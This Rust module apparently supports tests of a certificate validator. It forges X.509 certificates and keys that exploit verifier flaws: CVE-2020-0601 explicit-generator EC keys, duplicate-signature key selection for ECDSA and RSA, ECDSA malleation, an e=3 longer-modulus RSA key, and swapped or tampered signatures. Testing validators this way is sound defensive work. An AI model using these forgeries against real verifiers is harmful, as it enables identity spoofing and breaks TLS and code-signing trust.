//! Forgeries: certificates broken in one way each, and keys made to fit a signature that somebody else made.

use std::collections::{BTreeSet, HashMap};

use openssl::bn::{BigNum, BigNumContext, BigNumRef};
use openssl::ec::{EcGroup, EcPoint, EcPointRef, PointConversionForm};

use super::cert::Cert;
use super::der;
use super::key::arithmetic::by_openssl::{from, to};
use super::key::{Curve, Digest, Key, PointForm, RsaNumbers, below, digest_number, emsa_pkcs1, stream};

/// Bit `n` the other way round, counted from the first bit of the first octet.
pub fn flip_bit(der: &[u8], n: usize) -> Vec<u8> {
    let mut out = der.to_vec();
    out[n / 8] ^= 0x80 >> (n % 8);
    out
}

/// The certificate with another signature.
pub fn with_signature(cert: &Cert, signature: &[u8]) -> Cert {
    Cert::from_der(&der::seq(&[cert.tbs(), cert.algorithm(), &der::bits(signature)]))
}

/// The certificate with the signature, and the algorithm beside it, of another.
pub fn with_signature_of(cert: &Cert, other: &Cert) -> Cert {
    Cert::from_der(&der::seq(&[
        cert.tbs(),
        other.algorithm(),
        &der::bits(other.signature()),
    ]))
}

/// Another AlgorithmIdentifier beside the signature than inside, where it is signed.
pub fn with_outer_algorithm(cert: &Cert, algorithm: &[u8]) -> Cert {
    Cert::from_der(&der::seq(&[cert.tbs(), algorithm, &der::bits(cert.signature())]))
}

/// Octets after the certificate.
pub fn append_trailing(cert: &Cert, trailing: &[u8]) -> Cert {
    Cert::from_der(&[cert.der(), trailing].concat())
}

/// A value after the signature, inside the certificate.
pub fn append_inside(cert: &Cert, value: &[u8]) -> Cert {
    Cert::from_der(&der::seq(&[der::read(cert.der()).0.body, value]))
}

/// The same certificate under the other ECDSA signature (r, n - s), which is as right as the first: another fingerprint
/// for anybody to make.
pub fn malleate_ecdsa(cert: &Cert, issuer: &Key) -> Cert {
    let signature = EcdsaSignature::of(cert, issuer.ec_numbers().curve);
    let other = &signature.order - &signature.s;
    with_signature(cert, &der::seq(&[&bn(&signature.r), &bn(&other)]))
}

/// CVE-2020-0601: a key whose public point is this one's, on the same curve with the parameters spelled out, and with a
/// generator for which the private key is ours. Who compares points alone takes it for the CA's key; it does not verify
/// what the CA signed.
pub fn same_point_ec_key(key: &Key) -> Key {
    let curve = key.ec_numbers().curve;
    let (group, mut ctx) = (curve.group(), BigNumContext::new().unwrap());
    let public = point(group, &key.ec_numbers().public_point(PointForm::Uncompressed));
    let order = order(group);
    let d = to(&below(&from(&order), key.spki_der()));
    let (mut inverse, mut generator) = (BigNum::new().unwrap(), EcPoint::new(group).unwrap());
    inverse.mod_inverse(&d, &order, &mut ctx).unwrap();
    generator.mul2(group, &public, &inverse, &mut ctx).unwrap();
    let generator = written(group, &generator);
    Key::with_generator(curve, from(&d), generator)
}

/// A key that is ours, with curve parameters spelled out, under which this certificate's ECDSA signature verifies. Made
/// from the certificate and the public half of its issuer's key alone.
pub fn duplicate_signature_ec_key(cert: &Cert, issuer: &Key) -> Key {
    let curve = issuer.ec_numbers().curve;
    let (group, mut ctx) = (curve.group(), BigNumContext::new().unwrap());
    let signature = EcdsaSignature::of(cert, curve);
    let (u1, u2) = signature.factors();
    let public = point(group, &issuer.ec_numbers().public_point(PointForm::Uncompressed));
    // The point that verification must meet: R = u1 G + u2 Q.
    let mut r = EcPoint::new(group).unwrap();
    r.mul_full(group, &u1, &public, &u2, &mut ctx).unwrap();
    // With Q' = d' G', that is (u1 + u2 d') G'.
    let d = to(&below(&from(&signature.order), cert.tbs()));
    let [mut product, mut sum, mut inverse] = [(); 3].map(|()| BigNum::new().unwrap());
    product.mod_mul(&u2, &d, &signature.order, &mut ctx).unwrap();
    sum.mod_add(&u1, &product, &signature.order, &mut ctx).unwrap();
    inverse.mod_inverse(&sum, &signature.order, &mut ctx).unwrap();
    let mut generator = EcPoint::new(group).unwrap();
    generator.mul2(group, &r, &inverse, &mut ctx).unwrap();
    let generator = written(group, &generator);
    Key::with_generator(curve, from(&d), generator)
}

/// The other public key, on the named curve, under which this certificate's ECDSA signature verifies: every such
/// signature has two. Nobody holds its private half, yet a CA that asks for no proof of possession will certify it.
pub fn recovered_ec_key(cert: &Cert, issuer: &Key) -> Key {
    let curve = issuer.ec_numbers().curve;
    let (group, mut ctx) = (curve.group(), BigNumContext::new().unwrap());
    let signature = EcdsaSignature::of(cert, curve);
    let (u1, u2) = signature.factors();
    // R = u1 G + u2 Q has the same x as -R = u1 G + u2 Q'', so Q'' = -Q - 2 (u1 / u2) G.
    let public = point(group, &issuer.ec_numbers().public_point(PointForm::Uncompressed));
    let [mut inverse, mut ratio] = [(); 2].map(|()| BigNum::new().unwrap());
    inverse.mod_inverse(&u2, &signature.order, &mut ctx).unwrap();
    ratio.mod_mul(&u1, &inverse, &signature.order, &mut ctx).unwrap();
    let twice = &ratio + &ratio;
    let mut other = EcPoint::new(group).unwrap();
    other
        .mul_full(group, &twice, &public, &BigNum::from_u32(1).unwrap(), &mut ctx)
        .unwrap();
    other.invert2(group, &mut ctx).unwrap();
    let point = written(group, &other);
    let algorithm = der::algorithm(super::key::EC_PUBLIC_KEY, &der::oid(curve.oid));
    Key::public_only(&der::seq(&[&algorithm, &der::bits(&point)]))
}

/// An RSA key that is ours, of the issuer's size, with a huge exponent, under which this certificate's PKCS#1 v1.5
/// signature verifies (Blake-Wilson and Menezes 1999). Made from the certificate alone: n' is a product of two primes p
/// with p - 1 smooth, in whose groups the logarithm of the encoded digest to the base of the signature is found prime
/// by prime.
pub fn duplicate_signature_rsa_key(cert: &Cert) -> Key {
    let len = cert.signature().len();
    let s = BigNum::from_slice(cert.signature()).unwrap();
    let m = BigNum::from_slice(&emsa_pkcs1(rsa_digest(cert), cert.tbs(), len)).unwrap();
    let small = small_primes();
    for attempt in 0u32.. {
        let seed = [&attempt.to_be_bytes(), cert.signature()].concat();
        let mut used = BTreeSet::new();
        let p = SmoothPrime::find(len as i32 * 4, &s, &m, &small, &mut used, &[&seed[..], b"p"].concat());
        let q = SmoothPrime::find(len as i32 * 4, &s, &m, &small, &mut used, &[&seed[..], b"q"].concat());
        let n = &p.p * &q.p;
        if n <= s {
            continue;
        }
        // Odd, whatever the logarithms to the base 2 leave open; then a private exponent exists.
        let (mut e, mut modulus) = (BigNum::from_u32(1).unwrap(), BigNum::from_u32(2).unwrap());
        for (l, x) in p.logarithms(&s, &m).into_iter().chain(q.logarithms(&s, &m)) {
            let missing = (x + l - word(&e, l)) % l;
            let step = missing * power(word(&modulus, l), l - 2, l) % l;
            e = &e + &(&modulus * &number(step));
            modulus = &modulus * &number(l);
        }
        let (one, mut ctx) = (number(1), BigNumContext::new().unwrap());
        let phi = &(&p.p - &one) * &(&q.p - &one);
        let (mut d, mut check) = (BigNum::new().unwrap(), BigNum::new().unwrap());
        d.mod_inverse(&e, &phi, &mut ctx).unwrap();
        check.mod_exp(&s, &e, &n, &mut ctx).unwrap();
        assert!(check == m, "the logarithms do not add up");
        let [n, e, d, p, q] = [&n, &e, &d, &p.p, &q.p].map(|number| from(number));
        return Key::from_rsa(RsaNumbers { n, e, d, p, q });
    }
    unreachable!("a modulus above the signature is found at once")
}

/// An RSA public key with e = 3 and a modulus three times as long as this certificate's PKCS#1 v1.5 signature, modulo
/// which the signature's cube is the digest encoded for that length: it verifies for whoever does not compare the
/// lengths of signature and modulus. No one holds its private half.
pub fn longer_modulus_rsa_key(cert: &Cert) -> Key {
    let s = BigNum::from_slice(cert.signature()).unwrap();
    let cube = &(&s * &s) * &s;
    let len = cube.num_bytes();
    let mut n = &cube - &BigNum::from_slice(&emsa_pkcs1(rsa_digest(cert), cert.tbs(), len as usize)).unwrap();
    while n.is_even() {
        let whole = n;
        n = BigNum::new().unwrap();
        n.rshift1(&whole).unwrap();
    }
    assert_eq!(
        n.num_bytes(),
        len,
        "the modulus lost its length with its factors of two: mint another certificate"
    );
    let public = der::seq(&[&bn(&n), &der::int(3)]);
    Key::public_only(&der::seq(&[
        &der::algorithm(super::key::RSA_ENCRYPTION, &der::null()),
        &der::bits(&public),
    ]))
}

/// An ECDSA signature with the number it signs.
struct EcdsaSignature {
    r: BigNum,
    s: BigNum,
    z: BigNum,
    order: BigNum,
}

impl EcdsaSignature {
    fn of(cert: &Cert, curve: &Curve) -> EcdsaSignature {
        let parts = der::read(cert.signature()).0.children();
        let [r, s] = [parts[0], parts[1]].map(|part| BigNum::from_slice(part.body).unwrap());
        let oid = der::read(cert.algorithm()).0.children()[0].whole.to_vec();
        let digests = [
            Digest::Sha1,
            Digest::Sha224,
            Digest::Sha256,
            Digest::Sha384,
            Digest::Sha512,
        ];
        let digest = digests
            .into_iter()
            .find(|d| der::oid(d.ecdsa_oid()) == oid)
            .expect("an ECDSA signature");
        let order = order(curve.group());
        EcdsaSignature {
            r,
            s,
            z: to(&digest_number(&digest.hash(cert.tbs()), &from(&order))),
            order,
        }
    }

    /// u1 = z / s and u2 = r / s, modulo the order.
    fn factors(&self) -> (BigNum, BigNum) {
        let mut ctx = BigNumContext::new().unwrap();
        let [mut inverse, mut u1, mut u2] = [(); 3].map(|()| BigNum::new().unwrap());
        inverse.mod_inverse(&self.s, &self.order, &mut ctx).unwrap();
        u1.mod_mul(&self.z, &inverse, &self.order, &mut ctx).unwrap();
        u2.mod_mul(&self.r, &inverse, &self.order, &mut ctx).unwrap();
        (u1, u2)
    }
}

/// A prime p with p - 1 = 2 · l₁ · l₂ · …, all the l small and different.
struct SmoothPrime {
    p: BigNum,
    factors: Vec<u64>,
}

impl SmoothPrime {
    /// One just below 2^`bits`, with factors that are not `used` yet, in whose group the logarithm of `m` to the base
    /// `s` exists and is prime to p - 1.
    fn find(
        bits: i32,
        s: &BigNumRef,
        m: &BigNumRef,
        small: &[u64],
        used: &mut BTreeSet<u64>,
        seed: &[u8],
    ) -> SmoothPrime {
        let (mut ctx, one) = (BigNumContext::new().unwrap(), number(1));
        let mut limit = BigNum::new().unwrap();
        limit.set_bit(bits).unwrap();
        let mut choices = stream(seed, 1 << 16)
            .chunks_exact(4)
            .map(|c| u32::from_be_bytes([c[0], c[1], c[2], c[3]]) as usize)
            .collect::<Vec<_>>()
            .into_iter();
        loop {
            let (mut factors, mut product) = (vec![], number(2));
            // The last factor is what brings the product up to the limit, and it must stay small enough for its
            // logarithms.
            while product.num_bits() + 24 < bits {
                let l = small[choices.next().expect("enough choices") % small.len()];
                if !factors.contains(&l) && !used.contains(&l) {
                    factors.push(l);
                    product = &product * &number(l);
                }
            }
            let room = &limit / &product;
            let room = word(&room, u64::MAX);
            if room < 1 << 20 {
                continue;
            }
            for last in (room - (1 << 17)..room).rev().filter(|n| is_prime(*n, small)) {
                let p = &(&product * &number(last)) + &one;
                if used.contains(&last) || !p.is_prime_fasttest(0, &mut ctx, true).unwrap() {
                    continue;
                }
                let found = SmoothPrime {
                    p,
                    factors: factors.iter().copied().chain([last]).collect(),
                };
                if found.suits(s, m) {
                    used.extend(&found.factors);
                    return found;
                }
            }
        }
    }

    fn suits(&self, s: &BigNumRef, m: &BigNumRef) -> bool {
        let one = number(1);
        // Both squares, or neither; and both of full order in every other respect.
        (self.project(s, 2) == one) == (self.project(m, 2) == one)
            && self
                .factors
                .iter()
                .all(|l| self.project(s, *l) != one && self.project(m, *l) != one)
    }

    /// The number in the subgroup of order l.
    fn project(&self, x: &BigNumRef, l: u64) -> BigNum {
        let (mut out, mut ctx) = (BigNum::new().unwrap(), BigNumContext::new().unwrap());
        let exponent = &(&self.p - &number(1)) / &number(l);
        out.mod_exp(x, &exponent, &self.p, &mut ctx).unwrap();
        out
    }

    /// For every l, the logarithm of `m` to the base `s` modulo l, by small steps and large ones.
    fn logarithms(&self, s: &BigNumRef, m: &BigNumRef) -> Vec<(u64, u64)> {
        let mut ctx = BigNumContext::new().unwrap();
        let mut log = |l: u64| {
            let (base, target) = (self.project(s, l), self.project(m, l));
            let width = (l as f64).sqrt() as u64 + 1;
            let mut steps = HashMap::new();
            let mut at = number(1);
            for i in 0..width {
                steps.insert(at.to_vec(), i);
                let mut next = BigNum::new().unwrap();
                next.mod_mul(&at, &base, &self.p, &mut ctx).unwrap();
                at = next;
            }
            let mut back = BigNum::new().unwrap();
            back.mod_inverse(&at, &self.p, &mut ctx).unwrap();
            let mut at = target;
            for i in 0..=width {
                if let Some(j) = steps.get(&at.to_vec()) {
                    return (l, (i * width + j) % l);
                }
                let mut next = BigNum::new().unwrap();
                next.mod_mul(&at, &back, &self.p, &mut ctx).unwrap();
                at = next;
            }
            unreachable!("every element of the subgroup is a power of the base")
        };
        self.factors.iter().map(|l| log(*l)).collect()
    }
}

fn rsa_digest(cert: &Cert) -> Digest {
    let oid = der::read(cert.algorithm()).0.children()[0].whole.to_vec();
    let digests = [
        Digest::Md5,
        Digest::Sha1,
        Digest::Sha224,
        Digest::Sha256,
        Digest::Sha384,
        Digest::Sha512,
    ];
    digests
        .into_iter()
        .find(|d| der::oid(d.rsa_oid()) == oid)
        .expect("a PKCS#1 v1.5 signature")
}

fn bn(number: &BigNumRef) -> Vec<u8> {
    der::uint(&number.to_vec())
}

fn written(group: &EcGroup, point: &EcPointRef) -> Vec<u8> {
    point
        .to_bytes(
            group,
            PointConversionForm::UNCOMPRESSED,
            &mut BigNumContext::new().unwrap(),
        )
        .unwrap()
}

fn order(group: &EcGroup) -> BigNum {
    let mut order = BigNum::new().unwrap();
    group.order(&mut order, &mut BigNumContext::new().unwrap()).unwrap();
    order
}

fn point(group: &EcGroup, bytes: &[u8]) -> EcPoint {
    EcPoint::from_bytes(group, bytes, &mut BigNumContext::new().unwrap()).unwrap()
}

fn number(n: u64) -> BigNum {
    BigNum::from_slice(&n.to_be_bytes()).unwrap()
}

/// The remainder modulo a word.
fn word(n: &BigNumRef, modulus: u64) -> u64 {
    (n % &*number(modulus))
        .to_vec()
        .iter()
        .fold(0, |word, b| word << 8 | u64::from(*b))
}

/// base^exponent modulo a number of at most 32 bits.
fn power(mut base: u64, mut exponent: u64, modulus: u64) -> u64 {
    let mut out = 1;
    while exponent > 0 {
        if exponent & 1 == 1 {
            out = out * base % modulus;
        }
        base = base * base % modulus;
        exponent >>= 1;
    }
    out
}

/// The primes of 13 to 16 bits: small enough for logarithms, enough of them for two moduli.
fn small_primes() -> Vec<u64> {
    let mut composite = vec![false; 1 << 16];
    for n in 2..1 << 8 {
        (n * n..1 << 16)
            .step_by(n)
            .for_each(|multiple| composite[multiple] = true);
    }
    (1 << 12..1 << 16)
        .filter(|n| !composite[*n])
        .map(|n| n as u64)
        .collect()
}

/// By trial: the numbers asked about are below 2^32, and the even ones and multiples of small odd numbers go first.
fn is_prime(n: u64, small: &[u64]) -> bool {
    let divides = |d: &u64| n.is_multiple_of(*d);
    let first = (2..1 << 12).any(|d| divides(&d));
    !first && !small.iter().take_while(|d| *d * *d <= n).any(divides)
}
